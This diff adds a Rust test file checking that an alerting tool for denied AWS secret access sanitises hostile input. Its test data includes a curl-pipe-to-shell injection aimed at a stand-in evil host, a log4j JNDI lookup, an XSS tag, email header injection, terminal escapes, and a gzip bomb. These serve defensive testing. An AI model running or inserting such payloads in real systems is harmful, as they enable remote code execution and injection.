@@ -1,0 +1,166 @@
+//! Text that an attacker chooses, and files that nobody meant to be read.
+
+use rattle::alert::email::Email;
+use rattle::detection::Policy;
+use rattle::detection::finding::Finding;
+use rattle::store::memory::MemoryStore;
+use serde_json::{Value, json};
+
+use crate::support::{MONDAY, TemporaryFolder, gzip, parse, rattle, record, stderr, stdout};
+
+const HOSTILE: [&str; 9] = [
+    "prod/db\r\nBcc: victim@example.com\r\n\r\nAll clear",
+    "\u{1b}[2J\u{1b}[31mred\u{7}\u{8}\u{9b}31m\u{0}\u{7f}",
+    "\u{202e}drowssap/dorp\u{202c}\u{2066}x\u{2069}\u{200f}\u{feff}",
+    "<script>alert(1)</script><a href=\"https://evil.example/\">x</a>",
+    "https://evil.example/login?x=1",
+    "www.evil.example",
+    "'; curl evil.example | sh; '$(id)`id`",
+    "prod/\u{0440}\u{0430}y\u{2028}x\u{2029}y",
+    "%s%n{{7*7}}${jndi:ldap://evil.example/a}",
+];
+
+/// A finding about a role whose every free field is this text.
+fn finding(text: &str) -> Finding {
+    let policy = Policy::default();
+    let mut store = MemoryStore::default();
+    let mut found = None;
+    for i in 0..5 {
+        let mut record = record((MONDAY + i) as f64, &format!("e{i}"), &[format!("{i}{text}")]);
+        record["userIdentity"]["principalId"] = json!(format!("AROAEXAMPLECIDEPLOY01:{text}"));
+        record["userAgent"] = json!(text);
+        record["sourceIPAddress"] = json!(text);
+        record["awsRegion"] = json!(text);
+        record["errorMessage"] = json!(format!(
+            "User: x is not authorized to perform: secretsmanager:GetSecretValue on resource: {text} \
+             with an explicit deny in a service control policy: arn:{}",
+            text.replace(' ', "")
+        ));
+        let denial = parse(&record).unwrap().unwrap();
+        found = found.or(store.deliver(&denial, jiff::SignedDuration::ZERO, &policy).finding);
+    }
+    found.unwrap()
+}
+
+fn assert_harmless(text: &str) {
+    let finding = finding(text);
+    let Email { subject, body } = Email::about(&finding);
+    assert!(subject.len() < 100, "{subject}");
+    assert!(subject.bytes().all(|byte| (b' '..=b'~').contains(&byte)), "{subject:?}");
+    assert!(body.len() < 16 << 10, "{} bytes", body.len());
+    assert!(body.chars().all(|c| c == '\n' || c == '±' || (' '..='~').contains(&c)), "{body:?}");
+    assert_eq!(body.matches("://").count(), 1, "file://new-value and no link: {body}");
+    assert!(!body.contains("evil.example"), "a link: {body}");
+    let headings = body.lines().filter(|line| line.starts_with("WHAT TO DO")).count();
+    assert_eq!(headings, 1);
+    for command in body.lines().filter(|line| line.trim_start().starts_with("aws ")) {
+        assert!(!command.contains("id)") && !command.contains("curl"), "{command}");
+    }
+    assert!(!body.lines().any(|line| line.starts_with("Bcc") || line.starts_with("All clear")));
+
+    let line = serde_json::to_string(&finding).unwrap();
+    assert!(line.is_ascii() || line.chars().all(|c| c == '±' || c.is_ascii()), "{line}");
+    assert!(!line.chars().any(char::is_control), "{line:?}");
+    assert!(line.len() < 16 << 10);
+    let _: Value = serde_json::from_str(&line).unwrap();
+}
+
+#[test]
+fn no_text_of_a_caller_breaks_an_alert() {
+    for text in HOSTILE {
+        assert_harmless(text);
+        assert_harmless(&text.repeat(60));
+    }
+    assert_harmless(&"x".repeat(4_096));
+    assert_harmless(&"\n".repeat(4_096));
+}
+
+#[test]
+fn the_hostile_envelope_is_shown_for_what_it_is() {
+    let output = rattle(
+        &[
+            "replay",
+            "events/denied-role__hostile-text-cut-at-one-kilobyte.json",
+            "--min-denials=1",
+            "--min-secrets=1",
+            "--secrets-threshold=1",
+        ],
+        b"",
+    );
+    let text = stdout(&output);
+    assert!(
+        text.contains(r"prod/payments/db\nBcc: victim@e...m/http[:]//evil[.]example[.]com/http")
+    );
+    assert!(text.contains("www[.]evil[.]example[.]com@+prod=login"), "{text}");
+    assert!(!text.contains('\u{1b}') && !text.contains("http://"));
+}
+
+#[test]
+fn no_input_reaches_the_terminal_as_it_is() {
+    let folder = TemporaryFolder::new("names");
+    let path = folder.write("a\u{1b}[31m\nb.json", "{\"eventName\":\u{1b}[31m}");
+    let time = json!("\u{1b}[2J\nrattle: all clear");
+    let mut forged = record(0.0, "e", &[]);
+    forged["eventTime"] = time;
+    folder.write("c.json", forged.to_string());
+    let output = rattle(&["replay", folder.path().to_str().unwrap()], b"");
+    assert_eq!(output.status.code(), Some(0));
+    let complaints = stderr(&output);
+    assert!(
+        complaints.contains(r"a\u{1b}[31m\nb.json: line 1, byte 0: not valid JSON"),
+        "{complaints}"
+    );
+    assert!(complaints.contains(r#"eventTime is "\u{1b}[2J\nrattle: all clear", not a time"#));
+    assert!(!complaints.contains('\u{1b}'));
+    let missing = rattle(&["replay", "no\u{1b}such"], b"");
+    assert_eq!(missing.status.code(), Some(2));
+    assert!(stderr(&missing).contains(r"no\u{1b}such: cannot be read: "));
+    drop(path);
+}
+
+#[test]
+fn a_gzip_that_is_cut_off_stops_the_run() {
+    let folder = TemporaryFolder::new("cut");
+    let whole = gzip(json!({"Records": [record(MONDAY as f64, "e", &[])]}).to_string().as_bytes());
+    let path = folder.write("cut.json.gz", &whole[..whole.len() - 20]);
+    let output = rattle(&["replay", path.to_str().unwrap()], b"");
+    assert_eq!(output.status.code(), Some(2));
+    let complaint = stderr(&output);
+    assert!(complaint.contains("cut.json.gz: cannot be read after"), "{complaint}");
+    assert!(complaint.contains("the gzip data is cut off"), "{complaint}");
+
+    let mut broken = whole.clone();
+    let middle = broken.len() / 2;
+    broken[middle] ^= 0xff;
+    let path = folder.write("broken.json.gz", &broken);
+    let output = rattle(&["replay", path.to_str().unwrap()], b"");
+    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
+}
+
+/// 2 GiB of one record in a gzip of 2 MB: read in the memory of one record.
+#[test]
+fn a_bomb_is_read_in_bounded_memory() {
+    let folder = TemporaryFolder::new("bomb");
+    let record = record(MONDAY as f64, "e", &[]).to_string();
+    // A gzip file may have several members: one of zeros, repeated, is quick to write.
+    let filler = gzip(&vec![b'x'; 64 << 20]);
+    let mut bomb = gzip(b"[{\"eventName\":\"");
+    for _ in 0..32 {
+        bomb.extend_from_slice(&filler);
+    }
+    bomb.extend_from_slice(&gzip(format!("\"}},{record}]").as_bytes()));
+    assert!(bomb.len() < 4 << 20);
+    let path = folder.write("bomb.json.gz", &bomb);
+
+    let output = std::process::Command::new("sh")
+        .args(["-c", "ulimit -v 262144 && exec \"$0\" replay --summary json \"$1\""])
+        .arg(env!("CARGO_BIN_EXE_rattle"))
+        .arg(&path)
+        .output()
+        .unwrap();
+    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
+    let text = stderr(&output);
+    assert!(text.contains("a record is longer than 2 MiB"), "{text}");
+    let summary: Value = serde_json::from_str(text.lines().last().unwrap()).unwrap();
+    assert_eq!((&summary["counted"], &summary["rejected"]), (&json!(1), &json!(1)));
+}
